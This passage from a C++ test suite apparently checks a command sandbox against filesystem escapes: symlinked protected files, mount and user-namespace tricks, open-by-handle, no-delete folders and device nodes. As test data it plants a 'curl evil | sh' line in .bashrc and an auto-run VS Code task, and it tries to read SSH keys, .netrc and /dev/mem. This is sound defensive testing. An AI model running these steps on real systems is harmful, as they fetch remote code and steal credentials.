  EXPECT_TRUE(refused(res, "gitfile-unlink", {"EBUSY", "EROFS", "EACCES"}));
  EXPECT_TRUE(refused(res, "gitfile-replace", {"EBUSY", "EXDEV", "EROFS", "EACCES"}));
  EXPECT_TRUE(refused(res, "main-hooks", kReadOnly));  // outside the workspace anyway
  EXPECT_EQ(slurp(fx.ws + "/.git"), gitfile) << "the worktree's .git file now points elsewhere";
  expect_repo_intact(fx, "main-repo");
}

// A protected name that is a symlink on the host (a shared .vscode, a
// dotfiles-managed .bashrc) is protected only where it points; the link
// itself lives in the writable workspace.
TEST(FsEscape, SymlinkedProtectedNameCannotBeReplaced) {
  SandboxFixture fx;
  fx.tree.write("ws/shared-vscode/settings.json", "{}\n");
  fx.tree.write("ws/dotfiles/bashrc", "# managed\n");
  ASSERT_EQ(::symlink("shared-vscode", (fx.ws + "/.vscode").c_str()), 0);
  ASSERT_EQ(::symlink("dotfiles/bashrc", (fx.ws + "/.bashrc").c_str()), 0);
  auto r = fx.sh(probe_script(
      {
          {"vscode-target", "create shared-vscode/tasks.json"},
          {"vscode-unlink", "unlink .vscode"},
          {"bashrc-unlink", "unlink .bashrc"},
      },
      "") +
      "mkdir .vscode && echo '{\"tasks\":[{\"runOn\":\"folderOpen\"}]}' > .vscode/tasks.json\n"
      "echo 'curl evil | sh' > .bashrc\ntrue\n");
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "vscode-target", kReadOnly));
  EXPECT_TRUE(res["vscode-unlink"].rfind("ERR", 0) == 0) << "unlink .vscode: " << res["vscode-unlink"];
  EXPECT_TRUE(res["bashrc-unlink"].rfind("ERR", 0) == 0) << "unlink .bashrc: " << res["bashrc-unlink"];
  EXPECT_TRUE(is_symlink(fx.ws + "/.vscode")) << ".vscode was replaced by a folder of the command's";
  EXPECT_TRUE(is_symlink(fx.ws + "/.bashrc")) << ".bashrc was replaced by a file of the command's";
  EXPECT_FALSE(lexists(fx.ws + "/shared-vscode/tasks.json"));
  EXPECT_EQ(slurp(fx.ws + "/dotfiles/bashrc"), "# managed\n");
}

// --- Mount tricks --------------------------------------------------------------

TEST(FsEscape, MountTricksCannotRevealOrUnprotectAnything) {
  SandboxFixture fx;
  make_repo(fx, "ws");
  std::string ssh = fx.home + "/.ssh";
  auto r = fx.sh(probe_script({
      {"remount-root", "remount-rw /"},
      {"remount-standin", "remount-rw " + sq(ssh)},
      {"remount-hooks", "remount-rw .git/hooks"},
      {"umount-standin", "umount " + sq(ssh)},
      {"umount-hooks", "umount .git/hooks"},
      {"bind-over", "bind " + sq(fx.ws) + " " + sq(ssh)},
      {"userns-umount", "userns-umount " + sq(ssh)},
      {"userns-remount", "userns-remount-rw /"},
      // In a nested user + mount namespace the probe holds every capability;
      // the inherited mounts are locked there, and Landlock forbids mounting.
      {"nested-ssh", "nested umount-read " + sq(ssh) + " " + sq(ssh + "/id_rsa")},
      {"nested-netrc", "nested umount-read " + sq(fx.home + "/.netrc") + " " + sq(fx.home + "/.netrc")},
      {"nested-hooks", "nested remount-write .git/hooks .git/hooks/pre-commit"},
      {"nested-hooks-umount", "nested umount-read .git/hooks .git/hooks/pre-commit"},
      {"nested-home", "nested remount-write " + sq(fx.home) + " " + sq(fx.home + "/.bashrc")},
      {"nested-root", "nested remount-write / /etc/airlock-escape"},
      {"nested-proc", "nested umount-read /proc /proc/1/root" + sq(ssh + "/id_rsa")},
      {"nested-dev", "nested umount-read /dev /dev/mem"},
      {"chroot", "chroot /"},
  }), {"--settings", write_settings(fx, R"({"allowNestedUserNamespaces": true})")});
  // The syscall filter is lifted for nested namespaces here on purpose: the
  // mount layer must hold on its own. By default the filter refuses first:
  auto by_default = parse_results(fx.sh(probe_script({{"nested", "nested umount-read " + sq(ssh) + " " + sq(ssh + "/id_rsa")}})).out);
  EXPECT_EQ(by_default["nested"], "userns ERR EPERM");
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"remount-root", "remount-standin", "remount-hooks", "umount-standin", "umount-hooks",
                        "bind-over", "chroot"})
    EXPECT_TRUE(refused(res, l, {"EPERM"}));
  // Root's nested namespace cannot map uid 0 (EPERM); others get EINVAL.
  EXPECT_TRUE(refused(res, "userns-umount", {"EPERM", "EINVAL"}));
  EXPECT_TRUE(refused(res, "userns-remount", {"EPERM", "EINVAL"}));
  auto umount_failed = [&](const char* l) {
    EXPECT_TRUE(contains(res[l], "userns OK|umount ERR ")) << l << ": " << res[l];
  };
  for (const char* l : {"nested-ssh", "nested-netrc", "nested-hooks-umount", "nested-proc", "nested-dev"})
    umount_failed(l);
  EXPECT_TRUE(contains(res["nested-ssh"], "read ERR ENOENT"));
  // Still the empty stand-in, or refused by Landlock.
  EXPECT_TRUE(res["nested-netrc"] == "userns OK|umount ERR EINVAL|read OK " ||
              res["nested-netrc"] == "userns OK|umount ERR EINVAL|read ERR EACCES")
      << res["nested-netrc"];
  EXPECT_TRUE(contains(res["nested-dev"], "read ERR ENOENT"));
  for (const char* l : {"nested-hooks", "nested-home", "nested-root"}) {
    EXPECT_TRUE(contains(res[l], "userns OK|remount ERR ")) << l << ": " << res[l];
    EXPECT_TRUE(lacks(res[l], "write OK")) << l << ": " << res[l];
  }
  expect_no_secret(r);
  expect_repo_intact(fx, "ws");
  EXPECT_EQ(slurp(fx.home + "/.bashrc"), "# user's bashrc\n");
  EXPECT_FALSE(lexists("/etc/airlock-escape"));
  expect_host_secrets_intact(fx);
}

TEST(FsEscape, OpenByHandleIsRefused) {
  SandboxFixture fx;
  auto r = fx.sh(probe_script({
      {"ws-file", "handle README.md"},
      {"home-file", "handle " + sq(fx.home + "/notes.txt")},
      {"nested", "nested handle README.md"},
      {"read", "read README.md"},  // allowed: the same file by its path
  }));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "ws-file", {"EPERM"}));
  EXPECT_TRUE(refused(res, "home-file", {"EPERM"}));
  // The syscall filter refuses the namespace first; without it, the kernel
  // refuses the handle (CAP_DAC_READ_SEARCH in the initial namespace).
  EXPECT_TRUE(res["nested"] == "userns OK|ERR EPERM" || res["nested"] == "userns ERR EPERM") << res["nested"];
  EXPECT_EQ(res["read"], "OK project");
}

// --- Read-write-no-delete ------------------------------------------------------

TEST(FsEscape, NoDeleteFolderAllowsWritingButNotDeletingOrRenamingAway) {
  SandboxFixture fx;
  fx.tree.write("ws/ledger/2024.csv", "a,1\n");
  fx.tree.write("ws/scratch/tmp.txt", "scratch\n");
  std::string settings = write_settings(fx, R"({"filesystem": {"noDelete": ["ledger"]}})");
  auto r = fx.sh(probe_script(
                     {
                         {"append", "write ledger/2024.csv"},
                         {"create", "create ledger/2025.csv"},
                         {"mkdir", "mkdir ledger/archive"},
                         {"unlink", "unlink ledger/2024.csv"},
                         {"unlink-new", "unlink ledger/2025.csv"},
                         {"rmdir-new", "rmdir ledger/archive"},
                         {"rename-away", "rename ledger/2024.csv scratch/2024.csv"},
                         {"rename-inside", "rename ledger/2024.csv ledger/old.csv"},
                         {"rename-over", "rename scratch/evil.csv ledger/2024.csv"},
                         {"rename-folder", "rename ledger ledger-old"},
                         {"scratch-unlink", "unlink scratch/tmp.txt"},  // allowed: elsewhere in the workspace
                     },
                     "echo evil > scratch/evil.csv"),
                 {"--settings", settings});
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["append"], "OK");
  EXPECT_EQ(res["create"], "OK");
  EXPECT_EQ(res["mkdir"], "OK");
  // Landlock answers EACCES; the folder is also a mount point (EBUSY for
  // itself, EXDEV for renames across it).
  for (const char* l : {"unlink", "unlink-new", "rmdir-new", "rename-inside"})
    EXPECT_TRUE(refused(res, l, {"EACCES"}));
  for (const char* l : {"rename-away", "rename-over", "rename-folder"})
    EXPECT_TRUE(refused(res, l, {"EACCES", "EXDEV", "EBUSY"}));
  EXPECT_EQ(res["scratch-unlink"], "OK");
  EXPECT_EQ(slurp(fx.ws + "/ledger/2024.csv"), "a,1\npwned\n");
  EXPECT_TRUE(lexists(fx.ws + "/ledger/2025.csv"));
  EXPECT_TRUE(lexists(fx.ws + "/ledger/archive"));
  EXPECT_FALSE(lexists(fx.ws + "/ledger/old.csv"));
  EXPECT_FALSE(lexists(fx.ws + "/scratch/2024.csv"));
  EXPECT_FALSE(lexists(fx.ws + "/scratch/tmp.txt"));
}

TEST(FsEscape, NoDeleteFileAllowsWritingButNotDeletingOrRenamingAway) {
  SandboxFixture fx;
  fx.tree.write("ws/journal.log", "entry 1\n");
  std::string settings = write_settings(fx, R"({"filesystem": {"noDelete": ["journal.log"]}})");
  auto r = fx.sh(probe_script(
                     {
                         {"append", "write journal.log"},
                         {"rename-over", "rename evil.log journal.log"},
                         {"rename-away", "rename journal.log moved.log"},
                         {"unlink", "unlink journal.log"},
                     },
                     "echo evil > evil.log"),
                 {"--settings", settings});
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["append"], "OK");
  // A no-delete file is a mount point of its own: the kernel refuses to
  // unlink or rename it, or to rename anything over it (EBUSY).
  EXPECT_TRUE(refused(res, "rename-over", {"EACCES", "EBUSY"}));
  EXPECT_TRUE(refused(res, "rename-away", {"EACCES", "EBUSY"}));
  EXPECT_TRUE(refused(res, "unlink", {"EACCES", "EBUSY"}));
  EXPECT_EQ(slurp(fx.ws + "/journal.log"), "entry 1\npwned\n") << "the no-delete file was deleted or replaced";
  EXPECT_FALSE(lexists(fx.ws + "/moved.log"));
}

// --- Devices -------------------------------------------------------------------

TEST(FsEscape, DevHoldsOnlyTheMinimalSet) {
  SandboxFixture fx;
  auto r = fx.sh(probe_script(
      {
          {"mem", "read /dev/mem"},
          {"kmsg", "read /dev/kmsg"},
          {"new-node", "create /dev/sda"},
          {"null", "write /dev/null"},  // allowed
          {"zero", "read /dev/zero"},   // allowed
      },
      "echo DEV $(ls -A /dev)\necho discard > /dev/null && echo NULL-OK\n"
      "mknod disk b 8 0 2>/dev/null; mknod /tmp/mem c 1 1 2>/dev/null; echo MKNOD $(ls /tmp)"));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["DEV"], "fd full null ptmx pts random shm stderr stdin stdout tty urandom zero");
  EXPECT_EQ(res["mem"], "ERR ENOENT");
  EXPECT_EQ(res["kmsg"], "ERR ENOENT");
  EXPECT_TRUE(refused(res, "new-node", {"EROFS", "EACCES"}));
  EXPECT_EQ(res["null"], "OK");
  EXPECT_EQ(res["zero"], "OK ");
  EXPECT_TRUE(contains(r.out, "NULL-OK"));
  EXPECT_EQ(res["MKNOD"], "");  // no device node could be made anywhere
  EXPECT_FALSE(lexists(fx.ws + "/disk"));
}

// --- Exit codes ------------------------------------------------------------------

TEST(FsEscape, CommandExitCodePassesThrough) {
  SandboxFixture fx;
  EXPECT_EQ(fx.sh("exit 42").code, 42);
  EXPECT_EQ(fx.run({"false"}).code, 1);
  EXPECT_EQ(fx.sh("kill -TERM $$").code, 128 + 15);
  EXPECT_EQ(fx.run({"/no/such/command"}).code, 127);
}

TEST(FsEscape, SettingsErrorsExit125AndRunNothing) {
  SandboxFixture fx;
  const std::vector<std::pair<std::string, std::string>> bad = {
      {"not json", "{\"filesystem\": "},
      {"wrong type", R"({"filesystem": {"denyRead": 5}})"},
      {"disabled", R"({"filesystem": {"disabled": true}})"},
      {"missing allowWrite", R"({"filesystem": {"allowWrite": ["/no/such/folder"]}})"},
      {"relative escape", R"({"filesystem": {"allowWrite": ["../home"]}})"},
      {"allowRead glob", R"({"filesystem": {"allowRead": ["~/.ssh/*"]}})"},
  };
  for (const auto& [what, json] : bad) {
    std::string settings = write_settings(fx, json);
    auto r = fx.sh("touch marker", {"--settings", settings});
    EXPECT_EQ(r.code, 125) << what << ": " << r.err;
    EXPECT_FALSE(r.err.empty()) << what;
    EXPECT_FALSE(lexists(fx.ws + "/marker")) << what << ": the command ran";
  }
  auto r = fx.sh("touch marker", {"--settings", fx.tree.path("no-such-settings.json")});
  EXPECT_EQ(r.code, 125);
  EXPECT_FALSE(lexists(fx.ws + "/marker"));
  // Control: a good settings file runs the command.
  r = fx.sh("touch marker", {"--settings", write_settings(fx, R"({"filesystem": {"denyRead": []}})")});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(lexists(fx.ws + "/marker"));
}

}  // namespace
}  // namespace airlock::test
